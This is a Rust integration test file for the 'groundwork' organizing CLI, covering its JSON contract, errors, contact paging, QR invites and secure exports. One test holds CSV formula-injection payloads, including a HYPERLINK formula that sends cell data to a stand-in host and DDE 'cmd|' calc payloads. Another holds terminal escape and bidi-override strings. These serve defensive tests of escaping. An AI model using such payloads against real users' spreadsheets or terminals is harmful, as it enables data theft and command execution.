//! The CLI contract, through the real binary: every command with `--json` prints one JSON value
//! on stdout; errors go to stderr with a non-zero exit, and change nothing.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

type TestResult = Result<(), Box<dyn std::error::Error>>;

struct Gw<'a> {
    data: &'a Path,
}

impl Gw<'_> {
    fn run(&self, args: &[&str]) -> std::io::Result<Output> {
        Command::new(env!("CARGO_BIN_EXE_groundwork"))
            .arg("--data")
            .arg(self.data)
            .args(args)
            .env_remove("GROUNDWORK_DATA")
            .output()
    }

    /// Runs a command with `--json`; it must succeed and print exactly one JSON value.
    fn json(&self, args: &[&str]) -> Result<Value, Box<dyn std::error::Error>> {
        let mut all = args.to_vec();
        all.push("--json");
        let out = self.run(&all)?;
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{args:?} failed: {stderr}");
        let stdout = String::from_utf8(out.stdout)?;
        assert_eq!(stdout.trim_end().lines().count(), 1, "{args:?}: {stdout}");
        Ok(serde_json::from_str(&stdout)?)
    }

    /// Runs a command that must fail; returns its stderr.
    fn fails(&self, args: &[&str]) -> Result<String, Box<dyn std::error::Error>> {
        let out = self.run(args)?;
        assert!(!out.status.success(), "{args:?} succeeded");
        assert!(out.stdout.is_empty(), "{args:?} printed on stdout");
        Ok(String::from_utf8(out.stderr)?)
    }
}

fn field(v: &Value, key: &str) -> Result<String, String> {
    v[key]
        .as_str()
        .map(str::to_owned)
        .ok_or_else(|| format!("no {key:?} in {v}"))
}

#[test]
fn a_lead_plans_a_meeting_records_answers_and_logs_contacts() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    let me = gw.json(&["init", "--name", "Lead"])?;
    assert_eq!(gw.json(&["whoami"])?, me);
    assert_eq!(me["name"], "Lead");

    let group = field(
        &gw.json(&[
            "group",
            "create",
            "--name",
            "Riverside",
            "--jurisdiction",
            "Riverside County",
        ])?,
        "group_id",
    )?;
    assert_eq!(gw.json(&["group", "list"])?[0]["role"], "lead");
    let target = field(
        &gw.json(&[
            "target",
            "add",
            &group,
            "--name",
            "Sheriff Example",
            "--title",
            "Sheriff",
            "--level",
            "county",
        ])?,
        "target_id",
    )?;
    assert_eq!(gw.json(&["target", "list", &group])?[0]["level"], "county");
    let meeting = field(
        &gw.json(&[
            "meeting",
            "create",
            &group,
            "--kind",
            "official",
            "--title",
            "Ask the sheriff",
            "--target",
            &target,
            "--at",
            "2026-12-01T18:30:00-06:00",
            "--location",
            "County hall",
        ])?,
        "meeting_id",
    )?;
    gw.json(&[
        "meeting",
        "agenda",
        &meeting,
        "--add",
        "Question 1: existing policy",
    ])?;
    gw.json(&[
        "meeting",
        "agenda",
        &meeting,
        "--add",
        "Question 2: the model rules",
    ])?;
    gw.json(&["meeting", "notes", &meeting, "--append", "Open to R1."])?;
    gw.json(&["meeting", "status", &meeting, "requested"])?;
    let shown = gw.json(&["meeting", "show", &meeting])?;
    assert_eq!(shown["status"], "requested");
    assert_eq!(shown["at"], "2026-12-02T00:30:00Z");
    assert_eq!(shown["agenda"][1]["text"], "Question 2: the model rules");
    assert_eq!(shown["notes"], "Open to R1.");
    assert_eq!(gw.json(&["meeting", "list", &group])?[0]["agenda_items"], 2);

    let action = field(
        &gw.json(&[
            "action",
            "add",
            &group,
            "--title",
            "Send letter",
            "--due",
            "2026-12-05",
        ])?,
        "action_id",
    )?;
    gw.json(&["action", "done", &action])?;
    assert_eq!(gw.json(&["action", "list", &group])?[0]["done"], true);

    gw.json(&[
        "response",
        "record",
        &group,
        "--target",
        &target,
        "--rule",
        "R6",
        "--existing",
        "partial",
        "--position",
        "supports-with-changes",
        "--conditions",
        "only with 'should'",
        "--meeting",
        &meeting,
    ])?;
    let card = gw.json(&["scorecard", &group, "--target", &target])?;
    let rows = card.as_array().ok_or("scorecard is not a list")?;
    assert_eq!(rows.len(), 10);
    let r6 = rows.iter().find(|r| r["rule"] == "R6").ok_or("no R6")?;
    assert_eq!(r6["position"], "supports-with-changes");
    assert_eq!(r6["conditions"], "only with 'should'");
    assert_eq!(rows[0]["existing"], "unknown");

    gw.json(&[
        "contact", "log", &group, "--result", "not-home", "--place", "Elm St",
    ])?;
    let c = field(
        &gw.json(&[
            "contact",
            "log",
            &group,
            "--result",
            "talked",
            "--support",
            "5",
            "--interest",
            "host",
            "--interest",
            "attend",
            "--consent",
            "--name",
            "Test Person",
            "--email",
            "person@example.org",
        ])?,
        "contact_id",
    )?;
    let talked = gw.json(&["contact", "list", &group, "--result", "talked"])?;
    assert_eq!(talked["items"][0]["contact_id"], c.as_str());
    assert_eq!(
        talked["items"][0]["interests"],
        serde_json::json!(["attend", "host"])
    );
    assert_eq!(talked["total"], 1);
    let all = gw.json(&["contact", "list", &group])?;
    assert_eq!(all["items"].as_array().map(Vec::len), Some(2));
    assert_eq!(
        (all["next"].clone(), all["total"].clone()),
        (Value::Null, 2.into())
    );
    let csv = dir.path().join("contacts.csv");
    let exported = gw.json(&["contact", "export", &group, "--csv", &csv.to_string_lossy()])?;
    assert_eq!(exported["exported"], 2);
    assert!(std::fs::read_to_string(&csv)?.contains("Test Person"));
    assert_eq!(gw.json(&["rules"])?.as_array().map(Vec::len), Some(10));
    Ok(())
}

#[test]
fn errors_go_to_stderr_name_the_problem_and_change_nothing() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    assert!(
        gw.fails(&["whoami"])?
            .contains("run `groundwork init --name NAME` first")
    );
    gw.json(&["init", "--name", "Lead"])?;
    assert!(
        gw.fails(&["init", "--name", "Again"])?
            .contains("already exists")
    );
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    let target = field(
        &gw.json(&["target", "add", &group, "--name", "N", "--title", "Chief"])?,
        "target_id",
    )?;
    gw.json(&["contact", "log", &group, "--result", "talked"])?;
    let before = (
        gw.json(&["contact", "list", &group])?,
        gw.json(&["scorecard", &group])?,
    );

    let cases: &[(&[&str], &str)] = &[
        (
            &[
                "response",
                "record",
                &group,
                "--target",
                &target,
                "--rule",
                "R10",
                "--existing",
                "none",
                "--position",
                "opposes",
            ],
            "invalid rule code \"R10\"",
        ),
        (
            &[
                "response",
                "record",
                &group,
                "--target",
                &target,
                "--rule",
                "R1",
                "--existing",
                "none",
                "--position",
                "maybe",
            ],
            "invalid position \"maybe\"",
        ),
        (
            &["contact", "log", &group, "--result", "asleep"],
            "invalid contact result \"asleep\"",
        ),
        (
            &[
                "meeting",
                "create",
                &group,
                "--kind",
                "organizing",
                "--title",
                "T",
                "--at",
                "next tuesday",
            ],
            "\"next tuesday\" is not a date and time",
        ),
        (
            &["meeting", "list", "no-such-group"],
            "no group with id \"no-such-group\"",
        ),
        (
            &[
                "contact", "log", &group, "--result", "talked", "--phone", "555-0100",
            ],
            "consent",
        ),
        (
            &[
                "contact",
                "log",
                &group,
                "--result",
                "talked",
                "--support",
                "9",
            ],
            "outside 1 to 5",
        ),
        (&["meeting", "show", "nope"], "no meeting with id \"nope\""),
    ];
    for (args, expected) in cases {
        let stderr = gw.fails(args)?;
        assert!(
            stderr.contains(expected),
            "{args:?}: {stderr:?} should say {expected:?}"
        );
    }
    // With --json the error is JSON on stderr.
    let out = gw.run(&["meeting", "show", "nope", "--json"])?;
    assert_eq!(out.status.code(), Some(1));
    let err: Value = serde_json::from_slice(&out.stderr)?;
    assert!(field(&err, "error")?.contains("no meeting"));

    let after = (
        gw.json(&["contact", "list", &group])?,
        gw.json(&["scorecard", &group])?,
    );
    assert_eq!(before, after);
    Ok(())
}

#[test]
fn a_paged_contact_list_says_what_is_next_and_all_streams_every_row() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Canvasser"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    for i in 0..20 {
        let result = if i % 4 == 0 { "talked" } else { "not-home" };
        gw.json(&["contact", "log", &group, "--result", result])?;
    }
    // Pages of 7: 7, 7, 6, each naming the next page's cursor; the last says there is none.
    let mut seen = Vec::new();
    let mut after: Option<String> = None;
    let mut pages = Vec::new();
    loop {
        let mut args = vec!["contact", "list", group.as_str(), "--limit", "7"];
        if let Some(a) = &after {
            args.extend(["--after", a.as_str()]);
        }
        let page = gw.json(&args)?;
        assert_eq!(page["total"], 20, "{page}");
        let items = page["items"].as_array().ok_or("no items")?;
        pages.push(items.len());
        seen.extend(
            items
                .iter()
                .filter_map(|c| c["contact_id"].as_str().map(str::to_owned)),
        );
        match page["next"].as_str() {
            Some(next) => {
                assert_eq!(Some(next), seen.last().map(String::as_str));
                after = Some(next.to_owned());
            }
            None => break,
        }
    }
    assert_eq!(pages, [7, 7, 6]);
    let mut unique = seen.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), 20);
    // A filter's total counts what matches it.
    let talked = gw.json(&[
        "contact", "list", &group, "--result", "talked", "--limit", "2",
    ])?;
    assert_eq!(
        (
            talked["total"].clone(),
            talked["items"].as_array().map(Vec::len)
        ),
        (5.into(), Some(2))
    );
    // --all: one JSON value with every row, in the same order as the pages.
    let all = gw.json(&["contact", "list", &group, "--all"])?;
    let all_ids: Vec<String> = all["items"]
        .as_array()
        .ok_or("no items")?
        .iter()
        .filter_map(|c| c["contact_id"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(all_ids, seen);
    assert_eq!(
        (all["next"].clone(), all["total"].clone()),
        (Value::Null, 20.into())
    );
    // Text says how many there are and how to get more.
    let text = String::from_utf8(gw.run(&["contact", "list", &group, "--limit", "7"])?.stdout)?;
    let last = text.lines().last().unwrap_or_default();
    assert_eq!(
        last,
        format!("7 of 20; --after {} for more (or --all)", seen[6])
    );
    let text = String::from_utf8(gw.run(&["contact", "list", &group, "--all"])?.stdout)?;
    assert_eq!(text.lines().count(), 21, "{text}");
    // A cursor that names no contact is refused by name.
    assert!(
        gw.fails(&["contact", "list", &group, "--after", "nope"])?
            .contains("no contact")
    );
    Ok(())
}

#[test]
fn meetings_and_answers_name_the_official_not_its_id() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    let target = field(
        &gw.json(&[
            "target",
            "add",
            &group,
            "--name",
            "Sheriff Example",
            "--title",
            "Sheriff",
        ])?,
        "target_id",
    )?;
    let meeting = field(
        &gw.json(&[
            "meeting", "create", &group, "--kind", "official", "--title", "Ask", "--target",
            &target,
        ])?,
        "meeting_id",
    )?;
    let shown = String::from_utf8(gw.run(&["meeting", "show", &meeting])?.stdout)?;
    assert!(shown.contains("with:  Sheriff Example, Sheriff"), "{shown}");
    assert!(!shown.contains(&target), "{shown}");
    // Ids stay in JSON.
    assert_eq!(
        gw.json(&["meeting", "show", &meeting])?["target_id"],
        target.as_str()
    );
    let out = gw.run(&[
        "response",
        "record",
        &group,
        "--target",
        &target,
        "--rule",
        "R1",
        "--existing",
        "none",
        "--position",
        "will-support",
    ])?;
    let said = String::from_utf8(out.stdout)?;
    // The official has no county: the answer says it stays in the group.
    assert!(
        said.starts_with("Sheriff Example, Sheriff R1: none / will-support\n"),
        "{said}"
    );
    assert!(said.contains("stays in the group"), "{said}");
    Ok(())
}

#[test]
fn completions_and_the_manual_page_come_from_the_command_definitions() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    for shell in ["bash", "zsh", "fish"] {
        let out = gw.run(&["completions", shell])?;
        assert!(out.status.success(), "{shell}");
        let script = String::from_utf8(out.stdout)?;
        for word in ["invite", "contact", "sync", "relay"] {
            assert!(script.contains(word), "{shell} completion lacks {word}");
        }
        if shell == "bash" {
            // The script parses as bash.
            let file = dir.path().join("groundwork.bash");
            std::fs::write(&file, &script)?;
            let checked = Command::new("bash").arg("-n").arg(&file).output()?;
            assert!(
                checked.status.success(),
                "{}",
                String::from_utf8_lossy(&checked.stderr)
            );
        }
    }
    assert!(gw.fails(&["completions", "tcsh"])?.contains("tcsh"));
    let man = String::from_utf8(gw.run(&["man"])?.stdout)?;
    assert!(man.contains(".TH groundwork 1"), "{man}");
    assert!(man.contains("invite"));
    // Neither needs a device.
    assert!(!dir.path().join("groundwork.db").exists());
    Ok(())
}

/// Reads a QR code drawn with half blocks (light modules as blocks) back into the text it
/// holds, with a decoder that shares nothing with the encoder.
fn read_terminal_qr(drawn: &str) -> Result<String, Box<dyn std::error::Error>> {
    let rows: Vec<Vec<char>> = drawn
        .lines()
        .filter(|l| !l.is_empty() && l.chars().all(|c| " █▀▄".contains(c)))
        .map(|l| l.chars().collect())
        .collect();
    let width = rows
        .iter()
        .map(Vec::len)
        .max()
        .ok_or("no QR code printed")?;
    // Each cell is two modules: (top, bottom), true where light.
    let light = |x: usize, y: usize| -> bool {
        let c = rows
            .get(y / 2)
            .and_then(|r| r.get(x))
            .copied()
            .unwrap_or(' ');
        matches!((c, y % 2), ('█', _) | ('▀', 0) | ('▄', 1))
    };
    let scale = 4;
    let mut img = rqrr::PreparedImage::prepare_from_greyscale(
        width * scale,
        rows.len() * 2 * scale,
        |x, y| {
            if light(x / scale, y / scale) { 255 } else { 0 }
        },
    );
    let grids = img.detect_grids();
    let grid = grids.first().ok_or("no QR code found in the output")?;
    let (_, text) = grid.decode()?;
    Ok(text)
}

#[test]
fn an_invite_prints_its_join_link_and_draws_it_as_a_qr_code() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    let relay = "wss://relay.example.org/v1/sync";
    let invite = gw.json(&[
        "invite",
        "create",
        &group,
        "--role",
        "canvasser",
        "--relay",
        relay,
    ])?;
    let link = field(&invite, "link")?;
    let code = field(&invite, "code")?;
    assert_eq!(link, format!("https://relay.example.org/join#{code}"));
    assert_eq!(
        field(&invite, "app_link")?,
        format!("groundwork://join?invite={code}")
    );
    assert_eq!(invite["relay"], relay);
    let out = gw.run(&[
        "invite", "create", &group, "--role", "member", "--relay", relay, "--qr",
    ])?;
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout)?;
    let printed = text.lines().next().ok_or("nothing printed")?;
    assert!(
        printed.starts_with("https://relay.example.org/join#gw1."),
        "{printed}"
    );
    assert!(
        text.lines().skip(1).all(|l| l.chars().count() <= 80),
        "wider than a terminal:\n{text}"
    );
    assert_eq!(read_terminal_qr(&text)?, printed);
    // With --json the code goes to stderr and stdout stays one JSON value.
    let out = gw.run(&[
        "invite", "create", &group, "--role", "member", "--relay", relay, "--qr", "--json",
    ])?;
    let v: Value = serde_json::from_slice(&out.stdout)?;
    assert_eq!(
        read_terminal_qr(&String::from_utf8(out.stderr)?)?,
        field(&v, "link")?
    );
    // A web address is refused, with the address to use instead; nothing is signed.
    let err = gw.fails(&[
        "invite",
        "create",
        &group,
        "--role",
        "member",
        "--relay",
        "https://relay.example.org/v1/sync",
    ])?;
    assert!(err.contains("wss://relay.example.org/v1/sync"), "{err}");
    // Without a relay known, the invite is still made (offline), and says what it lacks.
    let out = gw.run(&["invite", "create", &group, "--role", "member"])?;
    assert!(out.status.success());
    assert!(String::from_utf8(out.stderr)?.contains("names no relay"));
    Ok(())
}

#[test]
fn a_device_that_never_reached_a_relay_is_told_to_name_one() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "New"])?;
    for args in [
        &["sync", "--once"][..],
        &["token", "some-group"],
        &["signup", "code"],
        &["member", "remove", "g", "d"],
    ] {
        let err = gw.fails(args)?;
        assert!(err.contains("--relay"), "{args:?}: {err}");
        assert!(err.contains("GROUNDWORK_RELAY"), "{args:?}: {err}");
    }
    // A relay URL that is not one is named before anything is dialled.
    let err = gw.fails(&["sync", "--once", "--relay", "127.0.0.1:7878"])?;
    assert!(err.contains("no scheme"), "{err}");
    Ok(())
}

#[test]
fn a_county_is_found_offline_and_a_target_named_by_county_and_office() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    // No device is needed to search the directory.
    let found = gw.json(&["places", "search", "Travis County, TX"])?;
    assert_eq!(found[0]["fips"], "48453");
    assert_eq!(found[0]["state_name"], "Texas");
    let text = String::from_utf8(gw.run(&["places", "search", "orleans parish"])?.stdout)?;
    assert!(text.starts_with("22071  Orleans, LA (Louisiana)"), "{text}");
    assert!(
        gw.fails(&["places", "search", "Nowhere At All"])?
            .contains("no county matches")
    );

    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    gw.json(&[
        "target", "add", &group, "--county", "48453", "--office", "sheriff",
    ])?;
    gw.json(&[
        "target",
        "add",
        &group,
        "--county",
        "48453",
        "--office",
        "police-chief",
        "--place",
        "Austin",
        "--name",
        "Chief Example",
    ])?;
    let targets = gw.json(&["target", "list", &group])?;
    let keys: Vec<&str> = targets
        .as_array()
        .ok_or("no targets")?
        .iter()
        .filter_map(|t| t["official_key"].as_str())
        .collect();
    assert_eq!(keys, ["48453/police-chief/austin", "48453/sheriff"]);
    assert_eq!(targets[1]["name"], "Sheriff of Travis, TX");
    // Half an official, or a county that does not exist, is refused and nothing is added.
    assert!(
        gw.fails(&["target", "add", &group, "--county", "48453"])?
            .contains("--office")
    );
    assert!(
        gw.fails(&[
            "target", "add", &group, "--county", "99999", "--office", "sheriff"
        ])?
        .contains("99999")
    );
    assert!(
        gw.fails(&[
            "target", "add", &group, "--county", "48453", "--office", "king"
        ])?
        .contains("police-chief")
    );
    assert!(gw.fails(&["target", "add", &group])?.contains("--name"));
    assert_eq!(
        gw.json(&["target", "list", &group])?
            .as_array()
            .map(Vec::len),
        Some(2)
    );
    Ok(())
}

#[test]
fn a_lead_turns_sharing_off_and_makes_a_meeting_public() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    assert_eq!(gw.json(&["group", "list"])?[0]["shares"], true);
    assert_eq!(
        gw.json(&["group", "share", &group, "off"])?["shares"],
        false
    );
    assert_eq!(gw.json(&["group", "list"])?[0]["shares"], false);
    let text = String::from_utf8(gw.run(&["group", "list"])?.stdout)?;
    assert!(text.contains("not sharing"), "{text}");
    let meeting = field(
        &gw.json(&[
            "meeting",
            "create",
            &group,
            "--kind",
            "organizing",
            "--title",
            "Open house",
        ])?,
        "meeting_id",
    )?;
    assert_eq!(
        gw.json(&["meeting", "show", &meeting])?["visibility"],
        "private"
    );
    gw.json(&["meeting", "share", &meeting, "public"])?;
    assert_eq!(
        gw.json(&["meeting", "list", &group])?[0]["visibility"],
        "public"
    );
    assert!(
        gw.fails(&["meeting", "share", &meeting, "everyone"])?
            .contains("shared")
    );
    assert!(
        gw.fails(&["group", "share", &group, "maybe"])?
            .contains("on")
    );
    Ok(())
}

/// The binary, started through `sh` with this umask (the test process's own is not changed:
/// other tests run beside it).
fn with_umask(umask: &str, data: &Path, args: &[&str]) -> std::io::Result<Output> {
    Command::new("sh")
        .arg("-c")
        .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
        .arg(env!("CARGO_BIN_EXE_groundwork"))
        .arg("--data")
        .arg(data)
        .args(args)
        .arg("--json")
        .env_remove("GROUNDWORK_DATA")
        .output()
}

/// Every row of a CSV file, header first, read with the csv crate.
fn csv_rows(path: &Path) -> Result<Vec<Vec<String>>, Box<dyn std::error::Error>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)?;
    let mut rows = Vec::new();
    for record in reader.records() {
        rows.push(record?.iter().map(str::to_owned).collect());
    }
    Ok(rows)
}

#[cfg(unix)]
fn mode(path: &Path) -> std::io::Result<u32> {
    use std::os::unix::fs::PermissionsExt;
    Ok(std::fs::metadata(path)?.permissions().mode() & 0o777)
}

/// Hostile text a contact may hold: a spreadsheet would run each of these as a formula.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://x/?\"&J3&K3, \"open\")";
const FORMULA_NOTES: &[&str] = &["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"];

#[cfg(unix)]
#[test]
fn exports_show_formulas_as_text_in_files_only_their_owner_can_read() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    // Contacts of an old month: `contact export` and the retention export both hold them.
    for note in FORMULA_NOTES {
        gw.json(&[
            "contact",
            "log",
            &group,
            "--result",
            "talked",
            "--consent",
            "--name",
            FORMULA_NAME,
            "--phone",
            "+1 555 0100",
            // `--note=-2...`: a value starting with `-` would be taken for an option.
            &format!("--note={note}"),
            "--at",
            "2020-01-15T12:00:00Z",
        ])?;
    }
    let check = |path: &Path| -> TestResult {
        let rows = csv_rows(path)?;
        let header = &rows[0];
        let col = |name: &str| header.iter().position(|h| h == name).ok_or(name.to_owned());
        let (name, note, phone, result) =
            (col("name")?, col("note")?, col("phone")?, col("result")?);
        assert_eq!(rows.len(), 1 + FORMULA_NOTES.len(), "{rows:?}");
        let mut notes: Vec<&str> = rows[1..].iter().map(|r| r[note].as_str()).collect();
        notes.sort_unstable();
        let mut expected: Vec<String> = FORMULA_NOTES.iter().map(|n| format!("'{n}")).collect();
        expected.sort_unstable();
        assert_eq!(notes, expected);
        for row in &rows[1..] {
            assert_eq!(row[name], format!("'{FORMULA_NAME}"));
            assert_eq!(row[phone], "'+1 555 0100");
            assert_eq!(row[result], "talked", "a harmless cell is left as it is");
        }
        assert_eq!(mode(path)?, 0o600, "{}", path.display());
        Ok(())
    };

    // A new file, under umask 022 (which would make it 0644).
    let export = dir.path().join("contacts.csv");
    let out = with_umask(
        "022",
        dir.path(),
        &[
            "contact",
            "export",
            &group,
            "--csv",
            &export.to_string_lossy(),
        ],
    )?;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    check(&export)?;

    // A file already there, readable by everyone: replaced, and made private first.
    let retention = dir.path().join("retention.csv");
    std::fs::write(
        &retention,
        "an older export, much longer than the new one\n".repeat(50),
    )?;
    std::fs::set_permissions(
        &retention,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )?;
    let out = with_umask(
        "022",
        dir.path(),
        &[
            "group",
            "retention",
            &group,
            "1",
            "--export",
            &retention.to_string_lossy(),
        ],
    )?;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let answer: Value = serde_json::from_slice(&out.stdout)?;
    assert_eq!(answer["exported"], FORMULA_NOTES.len());
    check(&retention)?;
    Ok(())
}

/// Printable bytes only (and newlines): no ESC, BEL, CR, C1 control or bidi override.
fn assert_inert(text: &str) {
    for c in text.chars() {
        let control = (c.is_control() && c != '\n')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c);
        assert!(!control, "{c:?} printed raw in {text:?}");
    }
}

#[test]
fn control_characters_from_documents_print_escaped_and_json_keeps_them() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
    let title = "Ask\u{1b}[2J\u{7}\rFAKE\nsecond line";
    let location = "Hall\u{1b}]0;owned\u{7}";
    let item = "item \u{202e}evil\u{2066}";
    let notes = "first line\nsecond \u{1b}[31mred\u{9b}\r\tend";
    let meeting = field(
        &gw.json(&[
            "meeting",
            "create",
            &group,
            "--kind",
            "organizing",
            "--title",
            title,
            "--location",
            location,
        ])?,
        "meeting_id",
    )?;
    gw.json(&["meeting", "agenda", &meeting, "--add", item])?;
    gw.json(&["meeting", "notes", &meeting, "--append", notes])?;

    let out = gw.run(&["meeting", "show", &meeting])?;
    assert!(out.status.success());
    let shown = String::from_utf8(out.stdout)?;
    assert_inert(&shown);
    // One-line fields: every control escaped, the newline too.
    assert!(
        shown.starts_with("Ask\\u{1b}[2J\\u{7}\\rFAKE\\nsecond line ("),
        "{shown}"
    );
    assert!(
        shown.contains("where: Hall\\u{1b}]0;owned\\u{7}\n"),
        "{shown}"
    );
    assert!(
        shown.contains("1. item \\u{202e}evil\\u{2066}\n"),
        "{shown}"
    );
    // Notes are prose: their newline is kept, the rest escaped.
    assert!(
        shown.contains("first line\nsecond \\u{1b}[31mred\\u{9b}\\r\\tend"),
        "{shown}"
    );

    let out = gw.run(&["meeting", "list", &group])?;
    let listed = String::from_utf8(out.stdout)?;
    assert_inert(&listed);
    assert_eq!(listed.lines().count(), 1, "{listed}");
    assert!(listed.contains("Ask\\u{1b}[2J\\u{7}\\rFAKE\\nsecond line"));

    // JSON carries the text as it is.
    let json = gw.json(&["meeting", "show", &meeting])?;
    assert_eq!(json["title"], title);
    assert_eq!(json["location"], location);
    assert_eq!(json["agenda"][0]["text"], item);
    assert!(field(&json, "notes")?.contains(notes));
    assert_eq!(gw.json(&["meeting", "list", &group])?[0]["title"], title);
    Ok(())
}

#[cfg(unix)]
#[test]
fn errors_about_the_data_directory_key_and_arguments_name_their_cause() -> TestResult {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir()?;

    // A data directory that is a file.
    let file = dir.path().join("a-file");
    std::fs::write(&file, "not a directory")?;
    for args in [&["init", "--name", "Lead"][..], &["whoami"]] {
        let stderr = Gw { data: &file }.fails(args)?;
        assert!(stderr.contains("is not a directory"), "{args:?}: {stderr}");
        assert!(!stderr.contains("File exists"), "{stderr}");
    }
    let below = file.join("data");
    let stderr = Gw { data: &below }.fails(&["whoami"])?;
    assert!(
        stderr.contains(&format!("{} is not a directory", file.display())),
        "{stderr}"
    );

    // A wrong key: the clear message alone, without SQLCipher's own log lines before it.
    let data = dir.path().join("device");
    let gw = Gw { data: &data };
    gw.json(&["init", "--name", "Lead"])?;
    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
        .arg("--data")
        .arg(&data)
        .arg("whoami")
        .env("GROUNDWORK_STORE_KEY", "11".repeat(32))
        .output()?;
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr)?;
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.starts_with("groundwork: the store at "), "{stderr}");
    assert!(
        stderr.contains("cannot be opened with this key"),
        "{stderr}"
    );

    // An argument that is not UTF-8 is named; a path that is not UTF-8 is no text, and fine.
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9");
    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
        .arg("--data")
        .arg(std::ffi::OsStr::from_bytes(b"/nonexistent/d\xff"))
        .args(["group", "create", "--name"])
        .arg(name)
        .output()?;
    assert_eq!(out.status.code(), Some(2), "a malformed command line");
    let stderr = String::from_utf8(out.stderr)?;
    assert!(
        stderr.contains("the value of --name (\"caf\\xE9\") is not valid UTF-8"),
        "{stderr}"
    );
    assert!(!stderr.contains("--data"), "{stderr}");
    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
        .arg("--data")
        .arg(&data)
        .args(["meeting", "show"])
        .arg(name)
        .output()?;
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr)?;
    assert!(stderr.contains("argument 5 (\"caf\\xE9\")"), "{stderr}");

    read_only_data_directory(dir.path())
}

/// A data directory this user cannot write. Root may write anywhere: as root the device runs
/// as `nobody` (through `setpriv`), and the test says so and stops where that is not possible.
#[cfg(unix)]
fn read_only_data_directory(root: &Path) -> TestResult {
    use std::os::unix::fs::PermissionsExt;
    let set_mode =
        |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m));
    let probe = root.join("probe");
    std::fs::create_dir(&probe)?;
    set_mode(&probe, 0o555)?;
    let privileged = std::fs::write(probe.join("f"), "").is_ok();
    let setpriv = ["/usr/bin/setpriv", "/bin/setpriv"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let data = root.join("read-only");
    std::fs::create_dir(&data)?;
    let command = || -> Option<Command> {
        if !privileged {
            return Some(Command::new(env!("CARGO_BIN_EXE_groundwork")));
        }
        let mut c = Command::new(setpriv?);
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(env!("CARGO_BIN_EXE_groundwork"));
        Some(c)
    };
    if command().is_none() {
        eprintln!("running as root without setpriv: the read-only directory is not checked");
        return Ok(());
    }
    if privileged {
        set_mode(root, 0o755)?;
        std::os::unix::fs::chown(&data, Some(65534), Some(65534))?;
    }
    let run = |args: &[&str]| -> std::io::Result<Output> {
        let mut c = command().ok_or_else(|| std::io::Error::other("no command"))?;
        c.arg("--data").arg(&data).args(args).output()
    };
    let out = run(&["init", "--name", "Lead"])?;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    set_mode(&data, 0o555)?;
    let out = run(&["whoami"])?;
    set_mode(&data, 0o755)?;
    let stderr = String::from_utf8(out.stderr)?;
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "the data directory {} is read-only",
            data.display()
        )),
        "{stderr}"
    );
    assert!(!stderr.contains("cannot be read"), "{stderr}");
    Ok(())
}

/// Runs a command without `--json` that must succeed; returns its stdout.
fn text(gw: &Gw<'_>, args: &[&str]) -> Result<String, Box<dyn std::error::Error>> {
    let out = gw.run(args)?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{args:?} failed: {stderr}");
    Ok(String::from_utf8(out.stdout)?)
}

#[test]
